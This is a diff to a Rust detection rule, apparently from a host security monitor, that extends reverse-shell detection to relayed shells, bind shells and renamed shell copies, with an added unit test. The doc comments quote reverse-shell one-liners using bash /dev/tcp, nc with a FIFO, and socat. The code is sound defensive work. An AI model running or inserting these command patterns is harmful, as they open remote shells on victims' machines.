@@ -1,5 +1,9 @@
 //! `reverse_shell`: a shell or interpreter whose stdin, stdout or stderr is a network socket —
-//! `bash -i >& /dev/tcp/host/port 0>&1` and its many cousins.
+//! `bash -i >& /dev/tcp/host/port 0>&1` and its many cousins — and a shell taking commands from
+//! stdin whose stdio is relayed (pipe, FIFO, unix socket or pty) by a process holding a TCP
+//! connection (`sh -i < fifo | nc host port > fifo`, `socat TCP:h:p EXEC:sh,pty`), or that was
+//! started by one that accepted it (a bind shell). A shell is known by what its file is (an
+//! installed shell by device and inode, or a copy by digest), not only by its name.
 use std::ffi::OsStr;
 
 use super::Finding;
@@ -20,6 +24,11 @@ const INTERPRETER_PREFIXES: &[&str] = &[
     "mawk",
 ];
 
+/// True for a shell by name.
+pub fn is_shell_name(name: &OsStr) -> bool {
+    name.to_str().is_some_and(|n| SHELLS.contains(&n))
+}
+
 /// True for a shell or script interpreter, judged by executable (or comm) name.
 pub fn is_shell_or_interpreter(name: &OsStr) -> bool {
     let Some(name) = name.to_str() else {
@@ -32,25 +41,53 @@ pub fn is_shell_or_interpreter(name: &OsStr) -> bool {
         })
 }
 
-/// Fires when the process is a shell/interpreter and one of fds 0-2 is a network socket.
+/// Fires when the process is a shell (by identity or name) or interpreter and one of fds 0-2
+/// is a network socket, or a shell whose stdio a connected process relays.
 pub fn check(p: &Process, _cfg: &Config) -> Option<Finding> {
-    let (fd, remote) = p.stdio_net.first()?;
-    if !is_shell_or_interpreter(p.exe_name()) && !is_shell_or_interpreter(&p.name) {
-        return None;
+    let named = is_shell_or_interpreter(p.exe_name()) || is_shell_or_interpreter(&p.name);
+    let exe = p.exe_name().to_string_lossy();
+    if let Some((fd, remote)) = p.stdio_net.first()
+        && (p.shell || named)
+    {
+        let peer = match remote {
+            Some(r) => format!(" connected to {}:{}", r.addr, r.port),
+            None => String::new(),
+        };
+        let fds: Vec<String> = p.stdio_net.iter().map(|(fd, _)| fd.to_string()).collect();
+        let what = if p.shell && !named {
+            " (a copy of a shell)"
+        } else {
+            ""
+        };
+        return Some(Finding {
+            rule: Rule::ReverseShell,
+            reason: format!(
+                "{exe}{what} has fd {fd} (of {}) on a network socket{peer}",
+                fds.join(",")
+            ),
+            attack: ATTACK,
+        });
     }
-    let peer = match remote {
-        Some(r) => format!(" connected to {}:{}", r.addr, r.port),
-        None => String::new(),
+    let r = p.relay.as_ref().filter(|_| p.shell)?;
+    let relay = r
+        .exe
+        .as_deref()
+        .map(super::show)
+        .unwrap_or_else(|| "?".into());
+    let reason = if r.accepted {
+        format!(
+            "bind shell: {exe} started with its stdio on pid {} ({relay}), which accepted a connection from {}",
+            r.pid, r.remote
+        )
+    } else {
+        format!(
+            "{exe} takes commands through pid {} ({relay}), connected to {}",
+            r.pid, r.remote
+        )
     };
-    let fds: Vec<String> = p.stdio_net.iter().map(|(fd, _)| fd.to_string()).collect();
     Some(Finding {
         rule: Rule::ReverseShell,
-        reason: format!(
-            "{} has fd {} (of {}) on a network socket{peer}",
-            p.exe_name().to_string_lossy(),
-            fd,
-            fds.join(",")
-        ),
+        reason,
         attack: ATTACK,
     })
 }
@@ -95,6 +132,40 @@ mod tests {
         ];
         let f = check(&p, &Config::default()).expect("fires");
         assert!(f.reason.contains("127.0.0.1:4444"), "{}", f.reason);
+    }
+
+    #[test]
+    fn fires_for_a_renamed_shell_copy_and_a_relayed_shell() {
+        let mut p = benign();
+        p.exe = Some("/usr/bin/dbus-daemon".into());
+        p.stdio_net = vec![(0, None)];
+        assert!(
+            check(&p, &Config::default()).is_none(),
+            "by name alone it is not a shell"
+        );
+        p.shell = true;
+        let f = check(&p, &Config::default()).expect("a copy of a shell");
+        assert!(f.reason.contains("copy"), "{}", f.reason);
+
+        let mut p = benign();
+        p.exe = Some("/usr/bin/dash".into());
+        p.relay = Some(crate::process::table::RelayFact {
+            pid: 7,
+            exe: Some("/usr/bin/socat".into()),
+            remote: "127.0.0.1:4444".parse().expect("addr"),
+            accepted: true,
+        });
+        assert!(
+            check(&p, &Config::default()).is_none(),
+            "relay facts need a shell"
+        );
+        p.shell = true;
+        let f = check(&p, &Config::default()).expect("bind shell");
+        assert!(
+            f.reason.contains("bind shell") && f.reason.contains("socat"),
+            "{}",
+            f.reason
+        );
     }
 
     #[test]
